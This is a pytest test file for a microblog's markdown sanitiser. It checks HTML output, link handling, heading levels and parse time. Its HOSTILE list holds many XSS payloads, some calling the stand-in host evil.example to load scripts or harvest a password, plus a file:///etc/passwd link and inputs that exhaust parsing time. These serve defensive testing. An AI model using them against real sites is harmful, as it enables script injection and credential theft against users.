"""Markdown by operators becomes harmless HTML, whoever wrote it."""

import re
import time

import pytest

from microblog_site.pages.markdown import first_paragraph, to_html

TAG = re.compile(r"<(/?[a-z][a-z0-9]*)((?:\s[^<>]*)?)>")
KNOWN_TAGS = {
    "a",
    "code",
    "div",
    "h2",
    "p",
    "pre",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
}  # those that occur here
LIMIT = 50_000  # characters: PAGE_MAX_LENGTH

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<!-- <script> --><script>alert(1)</script>",
    "<!-- a comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://town.example/"onmouseover=alert(1)//)',
    "[x](http://town.example/ '\"onmouseover=\"alert(1)')",
    "[x](http://[)",
    "<https://[::1>",
    "![x](https://evil.example/seen.png)",
    '![x" onerror="alert(1)](x)',
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '```" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| [x](javascript:alert(1)) | <svg/onload=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_do_harm_is_plain_text(text):
    html = to_html(text)
    for tag, attributes in TAG.findall(html):
        assert tag.strip("/") in KNOWN_TAGS
        names = re.findall(r'\s([^\s="]+)="[^"]*"', attributes)
        assert re.sub(r'\s[^\s="]+="[^"]*"', "", attributes) == ""
        assert set(names) <= ({"class", "tabindex"} if tag == "div" else {"href", "rel", "title", "start"})
    assert re.findall(r"<(?!/?[a-z])", html) == []
    for address in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"https?://|[^:]*$", address), address


def test_tags_can_be_read_as_they_were_written():
    assert to_html("<b>5 < 6</b>").strip() == "<p>&lt;b&gt;5 &lt; 6&lt;/b&gt;</p>"


@pytest.mark.parametrize(
    "text",
    [
        "> " * LIMIT,
        "- " * LIMIT,
        "\n".join("  " * depth + "- a" for depth in range(310)),
        "[" * LIMIT,
        "*a **b " * LIMIT,
        "<" * LIMIT,
        "://" * LIMIT,
        "|" * (LIMIT // 2) + "\n" + "|-" * (LIMIT // 4),
        "".join("`" * length + " " for length in range(310)),
    ],
    ids=lambda text: text[:8],
)
def test_no_text_takes_long(text):
    start = time.process_time()
    to_html(text[:LIMIT])
    assert time.process_time() - start < 20  # seconds: some take 3 here; runaway cases take minutes


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a\n## b\n### c", "234"),
        ("## a\n### b\n## c", "232"),
        ("### a\n#### b", "23"),
        ("a\n=\nb\n-", "23"),
        ("# a\n###### b\n###### c\n# d", "2332"),
        ("### a\n# b\n### c", "223"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "234566"),
        ("no heading", ""),
    ],
)
def test_headings_follow_the_one_of_the_page(text, levels):
    html = to_html(text)
    assert "".join(re.findall(r"<h(\d)>", html)) == levels
    assert "".join(re.findall(r"</h(\d)>", html)) == levels


@pytest.mark.parametrize(
    "address",
    ["http://other.example/", "HTTPS://other.example", "//other.example", "https:other.example", "https://town.example.evil/",
     "https://town.example@evil.example/", "http://town.example:81/"],
)  # fmt: skip
def test_links_to_other_sites_vouch_for_nobody(settings, address):
    settings.SITE_URL = "https://town.example"
    to_html.cache_clear()
    assert 'rel="nofollow noopener"' in to_html(f"[there]({address})")
    assert 'rel="nofollow noopener"' in to_html(f"> - **[there]({address} 'title')**")


@pytest.mark.parametrize(
    "address",
    ["/rules/", "/@susan/", "#top", "https://town.example", "https://town.example/@susan/", "mailto:a@b.example"],
)
def test_links_within_the_site_are_plain(settings, address):
    settings.SITE_URL = "https://town.example"
    to_html.cache_clear()
    assert to_html(f"[here]({address})").strip() == f'<p><a href="{address}">here</a></p>'


def test_addresses_in_angle_brackets_are_links():
    assert '<a href="mailto:a@b.example">a@b.example</a>' in to_html("<a@b.example>")
    assert '<a href="https://b.example/" rel="nofollow noopener">https://b.example/</a>' in to_html(
        "<https://b.example/>"
    )


def test_pictures_become_links():
    html = to_html("![The quay](https://town.example/quay.jpg)")
    assert "<img" not in html
    assert ">The quay</a>" in html


def test_tables_lists_quotes_and_code_are_fine():
    html = to_html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n\n> q\n\n~~s~~ `c`\n\n```js\nd\n```\n\n---")
    for part in ("<td>2</td>", '<ol start="3">', "<blockquote>", "<s>s</s>", "<code>c</code>", "<pre><code>d", "<hr>"):
        assert part in html


def test_first_paragraph_is_told_without_markup():
    assert first_paragraph(to_html("# T\n\nA *b* & [c](/d/)\ne.\n\nF.")) == "A b & c\ne."
    assert first_paragraph(to_html("- only\n- points")) == ""
